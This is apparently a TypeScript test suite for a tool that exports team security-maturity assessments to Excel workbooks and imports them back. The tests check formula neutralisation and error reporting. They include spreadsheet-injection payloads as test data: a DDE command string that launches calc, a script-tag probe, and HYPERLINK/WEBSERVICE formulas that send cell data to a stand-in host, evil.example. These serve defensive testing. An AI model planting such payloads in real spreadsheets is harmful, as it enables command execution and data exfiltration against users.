import ExcelJS from 'exceljs';
import type { CellValue, Worksheet } from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { formatDomainError } from '../../core/errors.js';
import { buildModel, modelRef } from '../../core/model/model.js';
import type { Model } from '../../core/model/model.js';
import { modelFileSchema } from '../../core/model/schema.js';
import { ANSWER_STATUSES, answerSchema, checkpointSchema, evidenceUrl } from '../../core/workspace/schema.js';
import type { AnswerStatus, Checkpoint, Team } from '../../core/workspace/schema.js';
import { readWorkbook } from './read-workbook.js';
import { buildReport, builtinModel, minimalXlsx, sampleBacklogItem, sheetXmlWithRows } from './test-items.js';
import type { TeamWithCheckpoint } from './test-items.js';
import { MAX_BACKLOG_ROWS } from './backlog-sheet.js';
import { MAX_TEAM_SHEETS, writeWorkbook } from './write-workbook.js';
import { checkWorkbookZip, inflateEntry, readZipDirectory } from './zip-limits.js';

const HOSTILE = ["=cmd|' /C calc'!A0", '+1', '-2', '@x', '\tTab first', '\rCR first', 'line\nbreak', '<script>alert(1)</script>', "'quoted", '_x0041_', 'ünïcødé 日本 🎉', '  spaced  ', '＝1+1', 'a "quote" and \\ backslash'];
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

/** Two domains, two levels, hostile text everywhere a model can hold it. */
const miniModel: Model = buildModel(
  modelFileSchema.parse({
    id: 'mini',
    version: 2,
    name: '=Mini model',
    levels: [{ level: 1, name: '+Basic' }, { level: 2, name: 'Defined' }],
    domains: [{ id: 'secrets', name: '@Secrets' }, { id: 'iac', name: '-IaC' }],
    practices: [
      { id: 'secrets.no-hardcoded', domain: 'secrets', level: 1, title: "=cmd|' /C calc'!A0", guidance: '+look' },
      { id: 'secrets.vault', domain: 'secrets', level: 2, title: 'Vault', guidance: '<script>alert(1)</script>' },
      { id: 'iac.scan', domain: 'iac', level: 1, title: '-Scan IaC', guidance: '@mention' },
      { id: 'iac.policy', domain: 'iac', level: 2, title: 'Policy as code', guidance: 'tabs\tand\nlines' },
    ],
  }),
);

const CONTEXT = { file: 'workbook.xlsx', model: miniModel, defaultDate: '2026-12-01' };
const RATER = /^[^\s/\\][^/\\]{0,63}$/;

// ---------------------------------------------------------------- generators

const anyText = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'binary', maxLength: 24 }), fc.string({ unit: 'grapheme', maxLength: 12 }));
const nonEmptyText = anyText.filter((text) => text !== '');
const isoDay = fc.date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date('2099-12-31T00:00:00Z'), noInvalidDate: true }).map((date) => date.toISOString().slice(0, 10));
const rater = fc.oneof(fc.constantFrom('alice', 'bob', 'carol', '+1', '=x', '@y', 'two\nlines', 'trailing ', 'a: b', '"q"', 'x"y', 'ünï'), fc.string({ unit: 'binary', minLength: 1, maxLength: 10 }))
  .filter((name) => RATER.test(name) && name !== '__proto__');
const status = fc.constantFrom<AnswerStatus>(...ANSWER_STATUSES);
const url = fc.oneof(fc.constantFrom('https://wiki.example/secrets', 'http://x.example/a?b=c#d', 'https://[::1]:8080/p"q'), fc.webUrl()).filter((value) => evidenceUrl.safeParse(value).success);
const optionalFields = { date: isoDay, by: anyText.filter((text) => text.length <= 200) };

const evidence = fc.oneof(
  fc.record({ type: fc.constant('note'), text: anyText.filter((text) => text.trim() !== ''), ...optionalFields }, { requiredKeys: ['type', 'text'] }),
  fc.record({ type: fc.constant('link'), url, title: anyText, ...optionalFields }, { requiredKeys: ['type', 'url'] }),
  fc.record(
    { type: fc.constant('finding'), detector: nonEmptyText, file: nonEmptyText, line: fc.integer({ min: 1, max: 100_000 }), message: anyText, ...optionalFields },
    { requiredKeys: ['type', 'detector', 'file'] },
  ),
);

const answer = fc
  .record(
    {
      status,
      justification: nonEmptyText,
      evidence: fc.array(evidence, { minLength: 1, maxLength: 3 }),
      ratings: fc.dictionary(rater, status, { minKeys: 1, maxKeys: 3 }),
      proposed: status,
    },
    { requiredKeys: [] },
  )
  .map((draft) => (Object.keys(draft).length === 0 ? { status: 'not-applicable' as const } : draft))
  .map(withJustificationWhenNeeded);

/** A not-applicable answer needs a justification (schema rule); the generator supplies one. */
function withJustificationWhenNeeded<T extends { justification?: string }>(draft: T): T {
  const parsed = answerSchema.safeParse(draft);
  return parsed.success ? draft : { ...draft, justification: '=Not used here' };
}

const practiceIds = miniModel.practices.map((practice) => practice.id);
const checkpointFor = (team: string): fc.Arbitrary<Checkpoint> =>
  fc
    .record({
      date: isoDay,
      model: fc.oneof(fc.constant(modelRef(miniModel)), nonEmptyText.filter((text) => text === text.trim() && text !== '' && text.length <= 200)),
      raters: fc.array(rater, { maxLength: 3 }),
      practices: fc.subarray(practiceIds),
      answers: fc.array(answer, { minLength: 4, maxLength: 4 }),
      domainScores: fc.dictionary(fc.constantFrom('secrets', 'iac', 'other-domain'), fc.integer({ min: 0, max: 20 }), { maxKeys: 3 }),
    })
    .map(({ practices, answers, ...rest }) => checkpointSchema.parse({ team, ...rest, answers: Object.fromEntries(practices.map((id, index) => [id, answers[index]])) }));

const teamName = fc.oneof(fc.constantFrom(...HOSTILE, 'README', 'history', 'Payments', 'payments', '[]:*?/\\', 'x'.repeat(40)), anyText).filter((name) => name.trim() !== '').map((name) => name.trim());
const teams = fc
  .uniqueArray(fc.constantFrom('payments', 'checkout', 'core_api', 't-1'), { minLength: 1, maxLength: 3 })
  .chain((ids) => fc.tuple(...ids.map((id) => fc.record({ team: fc.record({ id: fc.constant(id), name: teamName, group: fc.option(teamName, { nil: undefined }) }), checkpoint: fc.option(checkpointFor(id), { nil: undefined }) }))));

function cleanTeam(entry: { team: { id: string; name: string; group: string | undefined }; checkpoint: Checkpoint | undefined }): TeamWithCheckpoint {
  const team: Team = entry.team.group === undefined ? { id: entry.team.id, name: entry.team.name } : { id: entry.team.id, name: entry.team.name, group: entry.team.group };
  return entry.checkpoint === undefined ? { team } : { team, checkpoint: entry.checkpoint };
}

/** What import gives for a sheet: the checkpoint, or an empty one dated by the context for a team never assessed. */
function expectedCheckpoint(entry: TeamWithCheckpoint): Checkpoint {
  return entry.checkpoint ?? { team: entry.team.id, date: CONTEXT.defaultDate, model: modelRef(miniModel), raters: [], answers: {}, domainScores: {} };
}

// ---------------------------------------------------------------- helpers

async function load(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  return workbook;
}

async function save(workbook: ExcelJS.Workbook): Promise<Uint8Array> {
  return new Uint8Array(await workbook.xlsx.writeBuffer());
}

function allCells(workbook: ExcelJS.Workbook): { sheet: string; address: string; value: CellValue; formula: boolean }[] {
  const cells: { sheet: string; address: string; value: CellValue; formula: boolean }[] = [];
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        cells.push({ sheet: sheet.name, address: cell.address, value: cell.value, formula: cell.type === ExcelJS.ValueType.Formula });
      });
    });
  }
  return cells;
}

function sheetByTeam(workbook: ExcelJS.Workbook, teamId: string): Worksheet {
  const sheet = workbook.worksheets.find((candidate) => candidate.getCell('B1').value === teamId);
  if (sheet === undefined) throw new Error(`no sheet for ${teamId}`);
  return sheet;
}

/** Row of a practice on a team sheet (the table starts at row 10, in domain then level order). */
function practiceRow(sheet: Worksheet, practiceId: string): number {
  for (let row = 10; row <= sheet.rowCount; row += 1) if (sheet.getCell(row, 3).value === practiceId) return row;
  throw new Error(`no row for ${practiceId}`);
}

const payments: Team = { id: 'payments', name: 'Payments', group: 'Retail' };
const paymentsCheckpoint: Checkpoint = checkpointSchema.parse({
  team: 'payments',
  date: '2026-11-20',
  model: 'mini@2',
  raters: ['alice', 'bob'],
  answers: {
    'secrets.no-hardcoded': {
      status: 'implemented',
      justification: "=cmd|' /C calc'!A0",
      evidence: [
        { type: 'link', url: 'https://wiki.example/secrets', title: '+Secrets wiki', date: '2026-10-02', by: 'alice' },
        { type: 'note', text: '@Checked the deploy pipeline', date: '2026-10-02' },
        { type: 'finding', detector: 'has-secret-scan-in-ci', file: '.github/workflows/ci.yml', line: 14, message: 'ok', date: '2026-10-01', by: 'scanner' },
      ],
      ratings: { alice: 'implemented', bob: 'partial' },
    },
    'iac.scan': { status: 'not-applicable', justification: '-No infrastructure as code' },
    'iac.policy': { status: 'not-applicable', justification: 'No infrastructure as code at all' },
  },
  domainScores: { iac: 1 },
});

// ---------------------------------------------------------------- tests

describe('workbook round trip', () => {
  it('export → import gives back exactly the checkpoints, hostile text, evidence, ratings and self-ratings included', async () => {
    await fc.assert(
      fc.asyncProperty(teams, async (generated) => {
        const entries = generated.map(cleanTeam);
        const bytes = await writeWorkbook(buildReport(miniModel, entries, [sampleBacklogItem]), {});
        const read = await readWorkbook(bytes, CONTEXT);
        expect(read).toStrictEqual({ ok: true, value: entries.map(expectedCheckpoint) });
      }),
      { numRuns: 25 },
    );
  }, 120_000);

  it('round-trips a checkpoint of the built-in model (128 practices)', async () => {
    const model = builtinModel();
    const checkpoint = checkpointSchema.parse({ ...paymentsCheckpoint, model: modelRef(model), answers: { 'secrets.no-hardcoded': paymentsCheckpoint.answers['secrets.no-hardcoded'], 'iac.scanner-configured': { status: 'partial' } } });
    const bytes = await writeWorkbook(buildReport(model, [{ team: payments, checkpoint }]), {});
    expect(await readWorkbook(bytes, { ...CONTEXT, model })).toStrictEqual({ ok: true, value: [checkpoint] });
  });

  it('says on the sheet when answers to practices outside the model cannot be exported', async () => {
    const checkpoint = checkpointSchema.parse({ ...paymentsCheckpoint, answers: { ...paymentsCheckpoint.answers, 'iac.retired': { status: 'implemented' } } });
    const bytes = await writeWorkbook(buildReport(miniModel, [{ team: payments, checkpoint }]), {});
    expect(sheetByTeam(await load(bytes), 'payments').getCell('B7').value).toMatch(/ 1 answer\(s\) of this checkpoint concern practices that model mini@2 does not have; they are not in this sheet\.$/);
    expect(await readWorkbook(bytes, CONTEXT)).toStrictEqual({ ok: true, value: [paymentsCheckpoint] });
  });

  it('writes README, Heatmap, one sheet per team and Backlog, in that order', async () => {
    const report = buildReport(miniModel, [{ team: payments, checkpoint: paymentsCheckpoint }, { team: { id: 'new', name: 'Payments' } }], [sampleBacklogItem]);
    const workbook = await load(await writeWorkbook(report, {}));
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['README', 'Heatmap', 'Payments', 'Payments (2)', 'Backlog']);
  });
});

describe('sheet layout', () => {
  const report = buildReport(miniModel, [{ team: payments, checkpoint: paymentsCheckpoint }, { team: { id: 'new', name: 'New team' } }], [sampleBacklogItem]);

  it('team sheet: header block, table headers and a practice row with its answer', async () => {
    const bytes = await writeWorkbook(report, {});
    const sheet = sheetByTeam(await load(bytes), 'payments');
    expect([1, 2, 3, 4, 5, 6].map((row) => [sheet.getCell(row, 1).value, sheet.getCell(row, 2).value])).toEqual([
      ['Team id', 'payments'], ['Team name', 'Payments'], ['Date', '2026-11-20'], ['Model', 'mini@2'], ['Raters', 'alice\nbob'], ['Self-rated levels', 'iac: 1'],
    ]);
    expect((sheet.getRow(9).values as CellValue[]).slice(1)).toEqual(['Domain', 'Level', 'Practice id', 'Practice', 'What to look for', 'Status', 'Justification', 'Evidence', 'Ratings', 'Scan proposal']);
    expect((sheet.getRow(10).values as CellValue[]).slice(1)).toEqual([
      "'@Secrets", 1, 'secrets.no-hardcoded', "'=cmd|' /C calc'!A0", "'+look", 'implemented', "'=cmd|' /C calc'!A0",
      'link https://wiki.example/secrets title="+Secrets wiki" date=2026-10-02 by=alice'
        + '\nnote "@Checked the deploy pipeline" date=2026-10-02'
        + '\nfinding has-secret-scan-in-ci file=.github/workflows/ci.yml line=14 message=ok date=2026-10-01 by=scanner',
      'alice: implemented\nbob: partial',
    ]);
    expect(sheet.getCell('F10').dataValidation).toMatchObject({ type: 'list', allowBlank: true, formulae: ['"implemented,partial,not-implemented,not-applicable,unknown"'] });
    expect(sheet.getCell('F10').protection).toMatchObject({ locked: false });
    expect(sheet.getCell('D10').protection?.locked ?? true).toBe(true);
    const xml = sheetXml(bytes, 'xl/worksheets/sheet3.xml');
    expect(xml).toMatch(/<sheetProtection sheet="1" formatColumns="0" formatRows="0"\/>/);
    expect(xml).not.toMatch(/hashValue|password/i);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 9 });
  });

  it('heatmap: levels as numbers, n/a and unassessed as text, a targets block and a colour scale over both', async () => {
    const bytes = await writeWorkbook(report, {});
    const sheet = (await load(bytes)).getWorksheet('Heatmap');
    if (sheet === undefined) throw new Error('no heatmap');
    expect((sheet.getRow(1).values as CellValue[]).slice(1)).toEqual(['Team', 'Group', 'Assessed', "'@Secrets", "'-IaC"]);
    expect((sheet.getRow(2).values as CellValue[]).slice(1)).toEqual(['Payments', 'Retail', '2026-11-20', 1, 'n/a']);
    expect((sheet.getRow(3).values as CellValue[]).slice(1)).toEqual(['New team', undefined, 'never', '–', '–']);
    expect((sheet.getRow(5).values as CellValue[]).slice(1, 2)).toEqual(['Targets']);
    expect((sheet.getRow(6).values as CellValue[]).slice(1)).toEqual(['Payments', 'Retail', undefined, 2, 2]);
    expect(sheet.getCell('D2').note).toBe('Incomplete: 1 practice(s) at the level being tested are not assessed yet.');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', xSplit: 1, ySplit: 1 });
    const xml = sheetXml(bytes, 'xl/worksheets/sheet2.xml');
    expect(xml).toContain('<conditionalFormatting sqref="D2:E3"><cfRule type="colorScale" priority="1"><colorScale><cfvo type="num" val="0"/><cfvo type="num" val="1"/><cfvo type="num" val="2"/>');
    expect(xml).toContain('<conditionalFormatting sqref="D6:E7">');
  });

  it('backlog: one row per item with numbers kept as numbers', async () => {
    const sheet = (await load(await writeWorkbook(report, {}))).getWorksheet('Backlog');
    expect((sheet?.getRow(1).values as CellValue[]).slice(1)).toEqual(['Key', 'Team', 'Priority', 'Score', 'Domain', 'Level', 'Title', 'Effort', 'Depends on', 'Source', 'Acceptance']);
    expect((sheet?.getRow(2).values as CellValue[]).slice(1)).toEqual([
      'payments:secrets.central-vault', 'Payments', 'P2', 3.75, "'@Secrets", 2, `'=HYPERLINK("http://evil.example","Move secrets")`, 'M',
      'payments:secrets.inventory', 'gap', "'+Every service reads its secrets from the vault.\nNo secret in CI variables.",
    ]);
  });
});

function sheetXml(bytes: Uint8Array, part: string): string {
  const entries = readZipDirectory(bytes, 'x.xlsx');
  if (!entries.ok) throw new Error(entries.error.message);
  const entry = entries.value.find((candidate) => candidate.name === part);
  if (entry === undefined) throw new Error(`no ${part}`);
  const inflated = inflateEntry(bytes, entry, 'x.xlsx');
  if (!inflated.ok) throw new Error(inflated.error.message);
  return inflated.value.toString('utf8');
}

describe('S3 formulas are neutralised in the written workbook', () => {
  const hostileTeam: Team = { id: 'payments', name: '=Payments', group: '+Retail' };
  const report = buildReport(miniModel, [{ team: hostileTeam, checkpoint: { ...paymentsCheckpoint, raters: ['+mallory', '@eve'] } }], [sampleBacklogItem], '=Acme');

  it('S3 hostile title and justification cells hold the text with a leading quote', async () => {
    const sheet = sheetByTeam(await load(await writeWorkbook(report, {})), 'payments');
    const row = practiceRow(sheet, 'secrets.no-hardcoded');
    expect(sheet.getCell(row, 4).value).toBe("'=cmd|' /C calc'!A0");
    expect(sheet.getCell(row, 7).value).toBe("'=cmd|' /C calc'!A0");
    expect(sheet.getCell(practiceRow(sheet, 'iac.scan'), 7).value).toBe("'-No infrastructure as code");
    expect(sheet.getCell('B2').value).toBe("'=Payments");
    expect(sheet.getCell('B5').value).toBe("'+mallory\n@eve");
  });

  it('S3 no cell of any sheet is a formula or starts with a formula trigger', async () => {
    const bytes = await writeWorkbook(report, {});
    const cells = allCells(await load(bytes));
    expect(cells.length).toBeGreaterThan(100);
    expect(cells.filter((cell) => cell.formula)).toEqual([]);
    const triggered = cells.filter((cell) => typeof cell.value === 'string' && TRIGGERS.includes(cell.value.charAt(0)));
    expect(triggered).toEqual([]);
    const parts = readZipDirectory(bytes, 'x.xlsx');
    const worksheets = parts.ok ? parts.value.filter((entry) => /^xl\/worksheets\/sheet\d+\.xml$/.test(entry.name)).map((entry) => sheetXml(bytes, entry.name)) : [];
    expect(worksheets).toHaveLength(4);
    for (const xml of worksheets) expect(xml).not.toMatch(/<f[\s>]/);
  });

  it('S3 the same holds for a blank form', async () => {
    const cells = allCells(await load(await writeWorkbook(report, { blank: true })));
    expect(cells.filter((cell) => cell.formula || (typeof cell.value === 'string' && TRIGGERS.includes(cell.value.charAt(0))))).toEqual([]);
  });
});

describe('S2 import reads values, never formulas', () => {
  it('S2 a formula in the status column is not evaluated: without a cached value it counts as empty, with one only the value counts', async () => {
    const workbook = await load(await writeWorkbook(buildReport(miniModel, [{ team: payments }]), {}));
    const sheet = sheetByTeam(workbook, 'payments');
    sheet.getCell(practiceRow(sheet, 'secrets.no-hardcoded'), 6).value = { formula: 'HYPERLINK("http://evil.example/?leak="&B1,"implemented")' };
    sheet.getCell(practiceRow(sheet, 'secrets.vault'), 6).value = { formula: 'HYPERLINK("http://evil.example","partial")', result: 'partial' };
    sheet.getCell(practiceRow(sheet, 'iac.scan'), 7).value = { formula: 'WEBSERVICE("http://evil.example")' };
    sheet.getCell(practiceRow(sheet, 'iac.policy'), 6).value = { formula: 'CMD()', result: { error: '#NAME?' } };
    const read = await readWorkbook(await save(workbook), CONTEXT);
    expect(read).toStrictEqual({ ok: true, value: [{ team: 'payments', date: '2026-12-01', model: 'mini@2', raters: [], answers: { 'secrets.vault': { status: 'partial', evidence: [], ratings: {} } }, domainScores: {} }] });
    expect(JSON.stringify(read)).not.toMatch(/HYPERLINK|evil|WEBSERVICE/);
  });

  it('S2 a well-zipped file whose sheet is not XML is refused with a clear message', async () => {
    const read = await readWorkbook(minimalXlsx([{ name: 'Payments', xml: '<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c>' }]), CONTEXT);
    expect(read.ok ? 'read' : formatDomainError(read.error)).toBe('workbook.xlsx: not an XLSX workbook (the zip archive holds no readable spreadsheet)');
  });

  it('reads a minimal workbook written by another tool: no team sheets, no checkpoints', async () => {
    const read = await readWorkbook(minimalXlsx([{ name: 'Payments', xml: sheetXmlWithRows(3) }]), CONTEXT);
    expect(read).toStrictEqual({ ok: true, value: [] });
  });
});

describe('errors name the file, sheet, row and column', () => {
  const report = buildReport(miniModel, [{ team: payments, checkpoint: paymentsCheckpoint }]);

  async function readEdited(edit: (sheet: Worksheet) => void): Promise<unknown> {
    const workbook = await load(await writeWorkbook(report, {}));
    edit(sheetByTeam(workbook, 'payments'));
    const read = await readWorkbook(await save(workbook), CONTEXT);
    return read.ok ? read : { code: read.error.code, message: read.error.message, at: read.error.at };
  }

  it.each([
    {
      what: 'a bad status',
      edit: (sheet: Worksheet) => { sheet.getCell('F11').value = 'done'; },
      message: 'sheet "Payments" row 11 column F: "done" is not a status (implemented, partial, not-implemented, not-applicable, unknown; empty means unknown)',
      at: { line: 11, column: 6 },
    },
    {
      what: 'an unknown practice id',
      edit: (sheet: Worksheet) => { sheet.getCell('C12').value = 'iac.nope'; },
      message: 'sheet "Payments" row 12 column C: "iac.nope" is not a practice of model mini@2; the practice id column must stay as exported',
      at: { line: 12, column: 3 },
    },
    {
      what: 'an invalid team id',
      edit: (sheet: Worksheet) => { sheet.getCell('B1').value = 'Pay Ments'; },
      message: 'sheet "Payments" row 1 column B: "Pay Ments" is not a team id (lower-case letters, digits, "-" and "_"); the team id cell must stay as exported',
      at: { line: 1, column: 2 },
    },
    {
      what: 'a date in the wrong format',
      edit: (sheet: Worksheet) => { sheet.getCell('B3').value = '20/11/2026'; },
      message: 'sheet "Payments" row 3 column B: "20/11/2026" is not a date written YYYY-MM-DD',
      at: { line: 3, column: 2 },
    },
    {
      what: 'an impossible date',
      edit: (sheet: Worksheet) => { sheet.getCell('B3').value = '2026-02-30'; },
      message: 'sheet "Payments" row 3 column B: must be a date written YYYY-MM-DD',
      at: { line: 3, column: 2 },
    },
    {
      what: 'not-applicable without a justification',
      edit: (sheet: Worksheet) => { sheet.getCell('G12').value = null; },
      message: 'sheet "Payments" row 12 column F: not-applicable needs a justification',
      at: { line: 12, column: 6 },
    },
    {
      what: 'a bad evidence URL',
      edit: (sheet: Worksheet) => { sheet.getCell('H10').value = 'note ok\nlink https://user@evil.example/'; },
      message: 'sheet "Payments" row 10 column H: evidence line 2 (url): must be an absolute http(s) URL without credentials',
      at: { line: 10, column: 8 },
    },
    {
      what: 'broken evidence syntax',
      edit: (sheet: Worksheet) => { sheet.getCell('H10').value = 'note "unterminated'; },
      message: 'sheet "Payments" row 10 column H: evidence line 1: quoted text starting at character 6 has no closing "',
      at: { line: 10, column: 8 },
    },
    {
      what: 'a bad rating',
      edit: (sheet: Worksheet) => { sheet.getCell('I10').value = 'alice: yes'; },
      message: 'sheet "Payments" row 10 column I: ratings line 1: "yes" is not a status (implemented, partial, not-implemented, not-applicable, unknown; empty means unknown)',
      at: { line: 10, column: 9 },
    },
    {
      what: 'a rater with a slash',
      edit: (sheet: Worksheet) => { sheet.getCell('B5').value = 'alice/bob'; },
      message: 'sheet "Payments" row 5 column B: rater names may not contain slashes',
      at: { line: 5, column: 2 },
    },
    {
      what: 'a self-rating out of range',
      edit: (sheet: Worksheet) => { sheet.getCell('B6').value = 'iac: 99'; },
      message: 'sheet "Payments" row 6 column B: iac: Too big: expected number to be <=20',
      at: { line: 6, column: 2 },
    },
    {
      what: 'a changed column header',
      edit: (sheet: Worksheet) => { sheet.getCell('F9').value = 'State'; },
      message: 'sheet "Payments" row 9 column F: expected the column header "Status" but found "State"; the columns must stay as exported',
      at: { line: 9, column: 6 },
    },
    {
      what: 'an answer on a row without a practice id',
      edit: (sheet: Worksheet) => { sheet.getCell('F20').value = 'implemented'; },
      message: 'sheet "Payments" row 20 column C: this row has an answer but no practice id',
      at: { line: 20, column: 3 },
    },
    {
      what: 'a practice listed twice',
      edit: (sheet: Worksheet) => { sheet.getCell('C20').value = 'iac.scan'; },
      message: 'sheet "Payments" row 20 column C: practice iac.scan is listed twice (also on row 12)',
      at: { line: 20, column: 3 },
    },
  ])('$what', async ({ edit, message, at }) => {
    expect(await readEdited(edit)).toEqual({ code: 'invalid-input', message, at: { file: 'workbook.xlsx', ...at } });
  });

  it('refuses two sheets claiming the same team', async () => {
    const report2 = buildReport(miniModel, [{ team: payments, checkpoint: paymentsCheckpoint }, { team: { id: 'checkout', name: 'Checkout' } }]);
    const workbook = await load(await writeWorkbook(report2, {}));
    sheetByTeam(workbook, 'checkout').getCell('B1').value = 'payments';
    const read = await readWorkbook(await save(workbook), CONTEXT);
    expect(read).toEqual({ ok: false, error: { code: 'invalid-input', message: 'sheets "Payments" and "Checkout" both hold team payments', at: { file: 'workbook.xlsx' } } });
  });

  it('ignores sheets it does not know, such as one a person added', async () => {
    const workbook = await load(await writeWorkbook(report, {}));
    workbook.addWorksheet('My notes').getCell('A1').value = 'Team id?';
    const read = await readWorkbook(await save(workbook), CONTEXT);
    expect(read).toStrictEqual({ ok: true, value: [paymentsCheckpoint] });
  });
});

describe('blank workbook', () => {
  const report = buildReport(miniModel, [{ team: payments, checkpoint: paymentsCheckpoint }], [sampleBacklogItem]);

  it('leaves answers, raters, self-ratings and the date empty but keeps every sheet', async () => {
    const workbook = await load(await writeWorkbook(report, { blank: true }));
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['README', 'Heatmap', 'Payments', 'Backlog']);
    const sheet = sheetByTeam(workbook, 'payments');
    expect(['B3', 'B5', 'B6'].map((address) => sheet.getCell(address).value)).toEqual([null, null, null]);
    for (let row = 10; row <= 13; row += 1) expect([6, 7, 8, 9, 10].map((column) => sheet.getCell(row, column).value)).toEqual([null, null, null, null, null]);
    expect(await readWorkbook(await save(workbook), CONTEXT)).toStrictEqual({
      ok: true,
      value: [{ team: 'payments', date: '2026-12-01', model: 'mini@2', raters: [], answers: {}, domainScores: {} }],
    });
  });

  it('reads back what a person filled in, dated by the import', async () => {
    const workbook = await load(await writeWorkbook(report, { blank: true }));
    const sheet = sheetByTeam(workbook, 'payments');
    sheet.getCell('B5').value = 'alice\nbob';
    sheet.getCell('B6').value = 'secrets: 1';
    sheet.getCell(practiceRow(sheet, 'secrets.no-hardcoded'), 6).value = 'implemented';
    sheet.getCell(practiceRow(sheet, 'secrets.no-hardcoded'), 8).value = 'note "Saw the scanner run" date=2026-11-28 by=alice';
    sheet.getCell(practiceRow(sheet, 'iac.scan'), 6).value = 'Not-Applicable';
    sheet.getCell(practiceRow(sheet, 'iac.scan'), 7).value = 'No Terraform here';
    sheet.getCell(practiceRow(sheet, 'secrets.vault'), 9).value = { richText: [{ text: 'alice: partial\n' }, { text: 'bob: implemented' }] };
    const read = await readWorkbook(await save(workbook), CONTEXT);
    expect(read).toStrictEqual({
      ok: true,
      value: [{
        team: 'payments',
        date: '2026-12-01',
        model: 'mini@2',
        raters: ['alice', 'bob'],
        answers: {
          'secrets.no-hardcoded': { status: 'implemented', evidence: [{ type: 'note', text: 'Saw the scanner run', date: '2026-11-28', by: 'alice' }], ratings: {} },
          'secrets.vault': { evidence: [], ratings: { alice: 'partial', bob: 'implemented' } },
          'iac.scan': { status: 'not-applicable', justification: 'No Terraform here', evidence: [] , ratings: {} },
        },
        domainScores: { secrets: 1 },
      }],
    });
  });

  it('takes a date typed into a cell the person formatted as a date', async () => {
    const workbook = await load(await writeWorkbook(report, { blank: true }));
    const cell = sheetByTeam(workbook, 'payments').getCell('B3');
    cell.numFmt = 'yyyy-mm-dd';
    cell.value = new Date(Date.UTC(2026, 10, 27));
    const read = await readWorkbook(await save(workbook), CONTEXT);
    expect(read.ok && read.value[0]?.date).toBe('2026-11-27');
  });

  it('passes the archive checks of its own reader', async () => {
    const bytes = await writeWorkbook(report, { blank: true });
    expect(checkWorkbookZip(bytes, 'blank.xlsx').ok).toBe(true);
  });
});

describe('large organisations', () => {
  const model = builtinModel();
  const teams = (count: number): TeamWithCheckpoint[] => Array.from({ length: count }, (_, index) => ({ team: { id: `team-${index}`, name: `Team ${index}` } }));
  const sheetNames = async (bytes: Uint8Array): Promise<string[]> => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    return workbook.worksheets.map((sheet) => sheet.name);
  };

  it(`leaves the team sheets out above ${MAX_TEAM_SHEETS} teams and says how to get them`, async () => {
    const bytes = await writeWorkbook(buildReport(model, teams(MAX_TEAM_SHEETS + 1)), {});
    expect(await sheetNames(bytes)).toEqual(['README', 'Heatmap', 'Backlog']);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheets = workbook.getWorksheet('README')!.getColumn(2).values.filter((value) => typeof value === 'string');
    expect(sheets.some((text) => text.includes(`The ${MAX_TEAM_SHEETS + 1} teams are too many for a sheet each`))).toBe(true);
  });

  it('writes every team sheet when asked, and up to the limit by default', async () => {
    expect(await sheetNames(await writeWorkbook(buildReport(model, teams(MAX_TEAM_SHEETS + 1)), { allTeamSheets: true }))).toHaveLength(MAX_TEAM_SHEETS + 4);
    expect(await sheetNames(await writeWorkbook(buildReport(model, teams(3)), {}))).toEqual(['README', 'Heatmap', 'Team 0', 'Team 1', 'Team 2', 'Backlog']);
  }, 60_000);

  it(`keeps the first ${MAX_BACKLOG_ROWS} backlog items and says where the rest are`, async () => {
    const backlog = Array.from({ length: MAX_BACKLOG_ROWS + 5 }, (_, index) => ({ ...sampleBacklogItem, key: `k${index}` }));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await writeWorkbook(buildReport(model, teams(1), backlog), {})) as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Backlog')!;
    expect(sheet.getCell(MAX_BACKLOG_ROWS + 1, 1).value).toBe(`k${MAX_BACKLOG_ROWS - 1}`);
    expect(sheet.getCell(MAX_BACKLOG_ROWS + 2, 1).value).toBe(null);
    expect(sheet.getCell(MAX_BACKLOG_ROWS + 3, 1).value).toBe(`The first ${MAX_BACKLOG_ROWS} of ${MAX_BACKLOG_ROWS + 5} items; stepwise backlog --format csv lists them all.`);
  }, 60_000);
});
